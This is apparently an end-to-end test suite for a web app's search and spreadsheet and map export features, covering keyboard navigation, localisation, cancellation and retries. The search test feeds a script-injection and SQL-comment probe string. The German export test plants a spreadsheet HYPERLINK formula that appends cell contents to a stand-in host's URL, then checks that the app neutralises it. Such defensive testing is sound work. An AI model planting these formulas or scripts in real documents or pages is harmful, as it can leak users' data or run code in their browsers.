import { type Country, paths } from '@round-table/shared/contract';
import { readZip } from '../files/archive';
import { download } from '../files/saved-files';
import { asGuest, call, demoAccounts, get, send, signIn } from '../instance/api-client';
import { settled } from '../screens/accessibility';
import { expect, story } from '../story';

story('a guest searches questions and comments, and opens a hit by keyboard', { tag: ['@SEA-01', '@SEA-04'] }, async ({ people }) => {
  const guest = await people.guest();
  await guest.page.goto('/dashboard/');
  await guest.page.getByRole('searchbox', { name: 'Search' }).fill('filing');
  await guest.page.keyboard.press('Enter');
  await expect(guest.page).toHaveURL(/\/search\?search=filing$/);
  const questions = guest.page.getByRole('region', { name: 'Questions' });
  await expect(questions.locator('mark').first()).toHaveText(/fil/i);
  await expect(guest.page.getByRole('region', { name: 'Comments' }).getByRole('link').first()).toBeVisible();
  await expect(guest.page.getByRole('searchbox', { name: 'Search' })).toHaveValue('filing');
  await settled(guest.page);
  await guest.page.getByRole('textbox', { name: 'Search terms' }).press('ArrowDown');
  await expect(questions.getByRole('link').first()).toBeFocused();
  await guest.page.keyboard.press('Enter');
  await expect(guest.page).toHaveURL(/\/question\/\d+\/$/);
  for (const text of ['', 'a', 'x'.repeat(5000), '"\'%_;--<script>alert(1)</script>', '\u0000\u202E']) {
    await guest.page.goto(`/search?${new URLSearchParams({ search: text })}`);
    await expect(guest.page.getByRole('heading', { name: 'Search results' })).toBeVisible();
    await expect(guest.frame.main.getByText(/looking for|Nothing found|\d hits?/).first()).toBeAttached();
    await expect(guest.frame.main.getByRole('alert')).toHaveCount(0);
  }
});

story('a guest exports countries and questions that they chose', { tag: ['@EXP-01', '@EXP-02'] }, async ({ people }) => {
  const { page } = await people.guest();
  await page.goto('/dashboard/');
  await page.getByRole('button', { name: 'Export by Country' }).click();
  const byCountry = page.getByRole('dialog', { name: 'Export Report by Countries' });
  await expect(byCountry.getByRole('button', { name: 'Export selected' })).toBeDisabled();
  await byCountry.getByRole('checkbox', { name: 'Germany' }).check();
  const report = await download(page, () => byCountry.getByRole('button', { name: 'Export selected' }).click());
  expect(report.name).toMatch(/^round-table-\d{4}-\d+-by-country-en\.xlsx$/);
  expect(readZip(report.bytes).get('xl/worksheets/sheet1.xml')?.toString('utf8')).toContain('Germany');
  await expect(byCountry).toBeHidden();

  await page.getByRole('button', { name: 'Export by Question' }).click();
  const byQuestion = page.getByRole('dialog', { name: 'Export Report by Questions' });
  const chapter = byQuestion.getByRole('checkbox').first();
  await byQuestion
    .getByRole('button', { name: /^Questions of/ })
    .first()
    .click();
  await byQuestion.getByRole('checkbox').nth(1).check();
  await expect(chapter).toBeChecked({ indeterminate: true });
  await chapter.click();
  await expect(chapter).toBeChecked();
  const chosen = await download(page, () => byQuestion.getByRole('button', { name: 'Export selected' }).click());
  expect(chosen.name).toMatch(/-by-question-en\.xlsx$/);
});

story(
  'a report of all countries is German in German: plain text with its links, and no formulas',
  { tag: ['@EXP-01', '@EXP-04'] },
  async ({ ownInstance, ownPeople, catalogue }) => {
    const client = await signIn(ownInstance, demoAccounts.germany);
    const formula = '=HYPERLINK("https://demo.example/?"&A1;"Open")';
    await send(client, 'POST', paths.comments, { question: catalogue.question('I.1').id, country: 'DE', text: `<p>${formula}</p>` });
    const expert = await ownPeople.expertOf('DE', { locale: 'de' });
    const { page } = expert;
    await expert.goesTo('/dashboard/');
    await page.getByRole('button', { name: 'Export nach Land' }).click();
    const dialog = page.getByRole('dialog', { name: 'Bericht nach Ländern exportieren' });
    await expect(dialog.getByRole('button', { name: 'Auswahl exportieren' })).toBeDisabled();
    const report = await download(page, () => dialog.getByRole('button', { name: 'Alle Länder exportieren' }).click());
    expect(report.name).toMatch(/-by-country-de\.xlsx$/);
    const files = readZip(report.bytes);
    const sheet = files.get('xl/worksheets/sheet2.xml')?.toString('utf8') ?? '';
    const cells = [...sheet.matchAll(/<t xml:space="preserve">([^<]*)<\/t>/g)].map(([, text]) => text);
    const countries = await get<Country[]>({ ...client, locale: 'de' }, paths.countries);
    expect(cells).toEqual(expect.arrayContaining(['Land', 'Frage', 'Antwort', 'Kommentar', ...countries.map(({ name }) => name)]));
    expect(cells.some((text) => text?.includes('Seite des Grundbuchamts (https://demo.example/grundbuch)'))).toBe(true);
    expect(cells.filter((text) => /&lt;\/?(p|a|li|ul|strong)\b/.test(text ?? ''))).toEqual([]);
    // A text, which stays one when the cell is edited.
    const style = Number(/ s="(\d+)" t="inlineStr"><is><t xml:space="preserve">=HYPERLINK/.exec(sheet)?.[1]);
    const [, styles = ''] = /<cellXfs[^>]*>(.*?)<\/cellXfs>/s.exec(files.get('xl/styles.xml')?.toString('utf8') ?? '') ?? [];
    expect(styles.match(/<xf [^>]*>/g)?.[style]).toContain('quotePrefix="1"');
    expect(sheet).not.toContain('<f>');
  },
);

story(
  'an expert exports maps in the background, and cancels an export that takes too long',
  { tag: ['@EXP-03', '@EXP-04'] },
  async ({ people }) => {
    const { page, frame, goesTo } = await people.expertOf('DE');
    await goesTo('/dashboard/');
    await page.getByRole('button', { name: 'Export Maps' }).click();
    const dialog = page.getByRole('dialog', { name: 'Export Maps by Questions' });
    await dialog
      .getByRole('button', { name: /^Questions of/ })
      .first()
      .click();
    await dialog.getByRole('checkbox').nth(1).check();
    const archive = await download(page, () => dialog.getByRole('button', { name: 'Export selected' }).click());
    expect(archive.name).toMatch(/^round-table-live-\d{4}-\d\d-\d\d-maps-en\.zip$/);
    const pictures = [...readZip(archive.bytes)];
    expect(pictures.map(([name]) => name)).toEqual([expect.stringMatching(/^I\.1-[a-z0-9-]+\.png$/)]);
    expect(pictures[0]?.[1].subarray(1, 4).toString('latin1')).toBe('PNG');

    await page.getByRole('button', { name: 'Export Maps' }).click();
    await dialog.getByRole('button', { name: 'Export all Questions Maps' }).click();
    await expect(page.getByRole('progressbar', { name: 'Export Maps by Questions' })).toBeVisible({ timeout: 60_000 });
    await expect(page.getByText(/^\d+ of \d+ maps$/)).toBeVisible();
    await frame.menu.getByRole('link', { name: 'Questionnaire' }).click();
    await expect(frame.main.getByRole('tab').first()).toBeVisible();
    await page.getByRole('button', { name: 'Cancel' }).click();
    await expect(page.getByText('The export was cancelled.')).toBeVisible();
  },
);

story('the notification of a running export stays visible among others', { tag: ['@SHELL-15', '@EXP-04'] }, async ({ people }) => {
  const { page, goesTo } = await people.expertOf('DE');
  // The export of maps is pending throughout the story; the reports fail, and their notifications stay visible.
  await page.route(/\/api\/export-maps\//, () => new Promise(() => undefined));
  await page.route(/\/api\/export-by-country\//, (route) => route.abort());
  await goesTo('/dashboard/');
  await page.getByRole('button', { name: 'Export Maps' }).click();
  await page.getByRole('button', { name: 'Export all Questions Maps' }).click();
  const running = page.getByRole('status').filter({ hasText: 'Export Maps by Questions' });
  await expect(running).toBeVisible();
  const failures = page.getByRole('alert').getByText('Export Report by Countries');
  for (const shown of [1, 2, 3, 4, 4, 4]) {
    await page.getByRole('button', { name: 'Export by Country' }).click();
    await page.getByRole('button', { name: 'Export all Countries' }).click();
    await expect(page.getByRole('dialog')).toBeHidden();
    await expect(failures).toHaveCount(shown);
    await expect(page.getByText('Your file is being prepared …')).toHaveCount(1);
  }
  await running.getByRole('button', { name: 'Cancel' }).click();
  await expect(page.getByText('The export was cancelled.')).toBeVisible();
});

story('an incomplete export is not saved, and can be retried', { tag: ['@EXP-01', '@EXP-04'] }, async ({ people }) => {
  const { page } = await people.guest();
  const path = /\/api\/export-by-country\//;
  await page.route(path, async (route) => {
    const response = await route.fetch();
    const body = await response.body();
    await route.fulfill({ response, body: body.subarray(0, body.length - 100) });
  });
  await page.goto('/dashboard/');
  await page.getByRole('button', { name: 'Export by Country' }).click();
  await page.getByRole('button', { name: 'Export all Countries' }).click();
  const failure = page.getByRole('alert').filter({ hasText: 'The file was not received in full, so it was not saved.' });
  await expect(failure).toBeVisible({ timeout: 60_000 });
  await page.unroute(path);
  const report = await download(page, () => failure.getByRole('button', { name: 'Try again' }).click());
  expect(readZip(report.bytes).has('xl/worksheets/sheet2.xml')).toBe(true);
  await expect(failure).toBeHidden();
});

story(
  'an export is not saved if the server is killed, and can be retried',
  { tag: ['@EXP-03', '@EXP-04'] },
  async ({ ownInstance, ownPeople }) => {
    const { page, goesTo } = await ownPeople.expertOf('DE');
    await goesTo('/dashboard/');
    await page.getByRole('button', { name: 'Export Maps' }).click();
    await page.getByRole('dialog').getByRole('button', { name: 'Export all Questions Maps' }).click();
    await expect(page.getByText(/^\d+ of \d+ maps$/)).toBeVisible({ timeout: 60_000 });
    await ownInstance.crash();
    const failure = page.getByRole('alert').filter({ hasText: 'The file was not received in full, so it was not saved.' });
    await expect(failure).toBeVisible();
    await ownInstance.restart();
    await failure.getByRole('button', { name: 'Try again' }).click();
    await expect(failure).toBeHidden();
    await expect(page.getByText(/^\d+ of \d+ maps$/)).toBeVisible({ timeout: 60_000 });
  },
);

story(
  'the addresses of the reports outside of /api serve guests, readers and experts',
  { tag: '@EXP-05' },
  async ({ instance, catalogue }) => {
    const { id: question } = catalogue.first((one) => one.public);
    const callers = [asGuest(instance), await signIn(instance, demoAccounts.reader), await signIn(instance, demoAccounts.germany)];
    for (const client of callers) {
      const byCountry = await call(client, `${paths.exportByCountryAlias}?countries=${encodeURIComponent('["DE"]')}`);
      const byQuestion = await call(client, `${paths.exportByQuestionAlias}?questions=[${question}]`);
      const maps = await call(client, `${paths.exportMapsAlias}?questions=[${question}]`);
      expect([byCountry.status, byQuestion.status, maps.status]).toEqual([200, 200, 200]);
      for (const report of [byCountry, byQuestion])
        expect([...readZip(Buffer.from(await report.arrayBuffer())).keys()]).toContain('xl/worksheets/sheet1.xml');
      expect([...readZip(Buffer.from(await maps.arrayBuffer())).keys()]).toEqual([expect.stringMatching(/\.png$/)]);
    }
  },
);
